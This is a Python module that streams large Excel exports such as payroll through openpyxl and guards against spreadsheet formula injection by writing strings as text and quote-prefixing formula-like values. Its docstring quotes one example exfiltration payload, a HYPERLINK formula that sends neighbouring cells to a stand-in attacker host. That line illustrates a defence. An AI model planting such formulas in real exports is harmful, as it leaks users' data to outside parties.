"""Streaming Excel for large exports (the payroll of a month: 200,000 lines): openpyxl's write-only
workbook, with two additions that keep a styled row about as cheap as a bare one.

- `ReusedCell`: a cell made and styled once, then refilled for every row. A write-only sheet
  writes each appended row out at once, so the next row may reuse the same cell objects. Its style
  is fixed when it is made, so its style id is looked up once, not once a row (openpyxl looks it up
  in the workbook's style table for every styled cell it writes). Money goes in with `put`, as
  orgs.exporting writes it: the Decimal's own digits in a numeric cell, never through a float.
- `StreamingSheet`: a write-only sheet whose rows may mix plain values and cells. openpyxl's own
  sheet first tries each appended cell as a value, which raises, formats an error message and
  catches it, for every styled cell; this one tells the two apart with one type check.

Everything else (file layout, column settings, freeze panes, shared styles) is openpyxl's. The
export tests read the written files back with openpyxl and compare every value and format.
orgs.exporting uses the same cells (one per value) for its exact Decimals.

**Every value of every workbook the system writes goes through `cell_write`** (exports, the
import templates, the commands and API jobs that write them): a text is always a text cell, never
a formula. openpyxl makes any str that starts with "=" a formula, so an institution name such as
`=HYPERLINK("http://evil.example/?d="&B2,"查看详情")` would be a live formula in HR's copy,
sending the cells beside it away when clicked (issue 16, docs/SECURITY.md). Text that a spreadsheet
would take for a formula when the cell is edited (= + - @, tab, carriage return in front) also
carries Excel's quote prefix, so editing it keeps it text. The text itself is never changed, so an
exported workbook still re-imports as it was.
"""

from copy import copy
from decimal import Decimal

import openpyxl
from openpyxl.cell.cell import Cell
from openpyxl.styles.cell_style import StyleArray
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# What starts a formula when typed into a cell (Excel, WPS, LibreOffice): = + - @, and a tab or a
# carriage return in front of one (OWASP's list for spreadsheet exports).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def cell_write(cell: Cell, value) -> Cell:
    """Put `value` in `cell`, the one way every workbook of the system writes a value:

    - a str is a text cell (never a formula, nor an error code such as "#N/A"), quote-prefixed
      when `formula_like`; at most 32,767 characters, as Excel holds;
    - a Decimal is its own digits in a numeric cell (openpyxl would write it through a float:
      0.07 becomes 0.07000000000000001);
    - anything else (int, float, bool, date, None) as openpyxl writes it: numbers stay numbers,
      a negative one included.
    """
    quoted = False
    if isinstance(value, str):
        cell._value = cell.check_string(value)
        cell.data_type = "s"
        quoted = formula_like(value)
    elif isinstance(value, Decimal):
        cell._value = format(value, "f")
        cell.data_type = "n"
    else:
        cell.value = value
    if quoted or cell.quotePrefix:  # a reused cell drops the prefix for the next value
        if cell._style is not None:
            # A new array: a write-only sheet's style table may hold this one already.
            cell._style = copy(cell._style)
        cell.quotePrefix = quoted
    return cell


def row_cells(ws, values) -> list[Cell | None]:
    """`values` as cells written by `cell_write`, for `ws.append` (write-only sheet or not)."""
    # Placed at A1 until appended: openpyxl's write-only sheet names a cell by its coordinate.
    return [None if value is None else cell_write(Cell(ws, 1, 1), value) for value in values]


class ReusedCell(Cell):
    """A cell refilled for every row, whose style is set once, before its first row. Its style
    comes in two variants, looked up once each: as set, and with the quote prefix that
    `cell_write` gives a formula-like text."""

    __slots__ = ("_quoted", "_style_ids")

    def __init__(self, ws, *, number_format: str | None = None, font=None):
        super().__init__(ws, row=1, column=1)
        if number_format is not None:
            self.number_format = number_format
        if font is not None:
            self.font = font
        self._style_ids: dict[bool, int] = {}
        self._quoted = False

    @property
    def quotePrefix(self) -> bool:  # openpyxl's name
        return self._quoted

    @quotePrefix.setter
    def quotePrefix(self, quoted: bool) -> None:
        self._quoted = bool(quoted)

    @property
    def has_style(self) -> bool:
        return self._quoted or super().has_style

    @property
    def style_id(self) -> int:
        quoted = self._quoted
        if quoted not in self._style_ids:
            style = copy(self._style) if self._style is not None else StyleArray()
            style.quotePrefix = quoted
            self._style_ids[quoted] = self.parent.parent._cell_styles.add(style)
        return self._style_ids[quoted]

    def put(self, value) -> "ReusedCell":
        """Refill with `value`, written by `cell_write`."""
        cell_write(self, value)
        return self


class StreamingSheet(WriteOnlyWorksheet):
    """A write-only sheet: append lists whose items are plain values or cells (ReusedCell)."""

    def _values_to_row(self, values, row_idx):
        plain = Cell(self, row=row_idx, column=1)
        for col_idx, value in enumerate(values, 1):
            if value is None:
                continue
            # A plain value goes in one unstyled cell, refilled (openpyxl's sheet does the same).
            cell = value if isinstance(value, Cell) else cell_write(plain, value)
            cell.column = col_idx
            cell.row = row_idx
            yield cell


def streaming_workbook(title: str) -> tuple[openpyxl.Workbook, StreamingSheet]:
    """A write-only workbook with one StreamingSheet named `title`."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = StreamingSheet(parent=workbook, title=title)
    workbook._add_sheet(sheet)
    return workbook, sheet
